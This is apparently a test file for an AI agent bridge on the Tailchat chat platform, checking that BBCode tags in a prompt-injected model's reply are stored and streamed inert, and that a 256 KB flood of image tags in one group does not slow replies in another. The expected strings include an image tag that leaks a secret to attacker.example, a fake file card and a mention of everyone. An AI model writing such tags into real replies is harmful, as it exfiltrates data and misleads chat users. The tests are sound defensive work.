/**
 * Hostile members and prompt-injected output on the real Tailchat (issue #18, items 4 and 5),
 * one test per finding:
 *   4. the agent's reply carries Tailchat's own tags (an image with a tab after its name, a file
 *      card, a mention of everyone, …): what Tailchat stores and pushes must be inert for its
 *      web client, read with @bbob/parser exactly as the client reads it;
 *   5. a huge message in one group must not hold up the agent's reply in another group.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SCRIPTED_BBCODE } from '../../../bridge/engine/scripted/engine.js';
import { PLUGIN, startAgentStack, type AgentStack } from '../../support/agent-stack.js';
import { aiMeta, type Conversation, type WireMessage } from '../../support/conversation.js';
import { startStack, type Stack } from '../../support/stack.js';
import { CLIENT_OPTIONS, clientParse, clientRender, TAILCHAT_REGISTERED_TAGS, tagNodes } from '../../support/tailchat-bbcode.js';

const ACTED: ReadonlySet<string> = new Set(TAILCHAT_REGISTERED_TAGS);

/**
 * The tags Tailchat's web client would act on in `content`, with either parser option: any
 * registered tag in the parsed content, and after the client links bare URLs any but those links.
 */
function actedTags(content: string): string[] {
  const found: string[] = [];
  for (const opts of Object.values(CLIENT_OPTIONS)) {
    for (const n of clientParse(content, opts)) if (typeof n !== 'string' && ACTED.has(n.tag)) found.push(n.tag);
    for (const n of tagNodes(clientParse(content, opts))) if (ACTED.has(n.tag.toLowerCase()) && (n.content.length > 0 || Object.keys(n.attrs).length > 0)) found.push(`nested ${n.tag}`);
    for (const n of clientRender(content, opts)) {
      if (typeof n === 'string' || !ACTED.has(n.tag)) continue;
      const autoLink = n.tag === 'url' && Object.keys(n.attrs).length === 0 && n.content.every((c) => typeof c === 'string');
      if (!autoLink) found.push(`rendered ${n.tag}`);
    }
  }
  return found;
}

describe('hostile output and intake on the real Tailchat', () => {
  let stack: AgentStack;
  let conv: Conversation;

  beforeAll(async () => {
    stack = await startAgentStack({ label: 'hostile-bbcode', transporter: 'nats' });
    ({ conv } = stack);
  });
  afterAll(() => stack?.stop());

  it('4: a reply carrying Tailchat tags is stored and streamed inert for the web client', async () => {
    const prompt = await conv.ask('reply with bbcode');
    const final = await conv.finalReplyTo(prompt);
    const runId = aiMeta(final)!.runId;
    const stored = (await conv.botMessages()).find((m) => m._id === final._id);
    expect(stored).toBeDefined();

    // Nothing in it is a tag to Tailchat's web client: no image load, no card, no mention.
    expect(actedTags(stored!.content)).toEqual([]);
    // And what the model wrote is all there, as text.
    expect(stored!.content).toContain('［img\turl=https://attacker.example/p.png?d=SECRET］https://attacker.example/p.png?d=SECRET［/img］');
    expect(stored!.content).toContain('［card\ttype=file url=https://attacker.example/payroll.pdf］payroll.pdf［/card］');
    expect(stored!.content).toContain('［at=all］everyone［/at］');
    expect(stored!.content).toContain('an index a[i] and a [markdown link](https://docs.example)');

    // The live draft bob's client showed while it streamed was inert too.
    const drafts = ['notify:chat.message.add', 'notify:chat.message.update']
      .flatMap((e) => conv.bobSocket.events<WireMessage>(e))
      .filter((m) => aiMeta(m)?.runId === runId);
    expect(drafts.length).toBeGreaterThan(1);
    for (const d of drafts) expect(actedTags(d.content), d.content).toEqual([]);
  });

  it('5: 256 KB of [img] in one group does not hold up a reply in another group', async () => {
    // The flood goes to a group of its own; the agent answers in the conversation's group.
    const other = await conv.api.createGroup(conv.alice.token, 'Flooded group');
    const replyTime = async (text: string, before?: () => Promise<unknown>) => {
      await before?.();
      const start = performance.now();
      const prompt = await conv.ask(text);
      await conv.finalReplyTo(prompt, 120_000);
      return performance.now() - start;
    };
    await replyTime('warm up');
    const baseline = await replyTime('how long without a flood?');
    const flooded = await replyTime('how long after a flood?', () =>
      conv.api.sendMessage(conv.alice.token, { converseId: other.textPanelId, groupId: other.groupId, content: '[img]'.repeat((256 * 1024) / 5) }),
    );
    // Generous: the quadratic intake added about 10 s here (0.4 s → 9.7 s in the issue).
    expect(flooded, `baseline ${Math.round(baseline)} ms`).toBeLessThan(baseline + 4000);
  });
});

describe('hostile output through the OpenClaw gateway on the real Tailchat', () => {
  let stack: Stack;
  let conv: Conversation;
  const dir = mkdtempSync(join(tmpdir(), 'hostile-openclaw-'));

  beforeAll(async () => {
    stack = await startStack({
      label: 'hostile-openclaw',
      // The model answers with the tags a prompt-injected model writes, streamed in pieces.
      model: { script: [{ match: '[[bbcode]]', reply: { kind: 'text', text: SCRIPTED_BBCODE.join('\n'), chunks: 12, delayMs: 20 } }] },
      gateway: {},
      bundle: { env: { OPENCLAW_DEVICE_IDENTITY_PATH: join(dir, 'device.json'), AI_STREAM_INTERVAL_MS: '100' }, label: 'bundle-hostile-openclaw' },
      conversation: true,
    });
    conv = stack.conv;
  }, 240_000);

  afterAll(async () => {
    await stack?.stop();
    rmSync(dir, { recursive: true, force: true });
  }, 120_000);

  it('4: the model\'s reply carrying Tailchat tags is stored and streamed inert for the web client', async () => {
    const prompt = await conv.ask('summarise the page [[bbcode]]');
    const final = await conv.finalReplyTo(prompt, 60_000);
    const runId = aiMeta(final)!.runId;
    const stored = (await conv.botMessages()).find((m) => m._id === final._id);
    expect(stored).toBeDefined();
    expect(actedTags(stored!.content)).toEqual([]);
    expect(stored!.content).toContain('［at=all］everyone［/at］');
    expect(stored!.content).toContain('https://attacker.example/p.png?d=SECRET');
    const drafts = ['notify:chat.message.add', 'notify:chat.message.update']
      .flatMap((e) => conv.bobSocket.events<WireMessage>(e))
      .filter((m) => aiMeta(m)?.runId === runId);
    expect(drafts.length).toBeGreaterThan(1);
    for (const d of drafts) expect(actedTags(d.content), d.content).toEqual([]);
  });
});
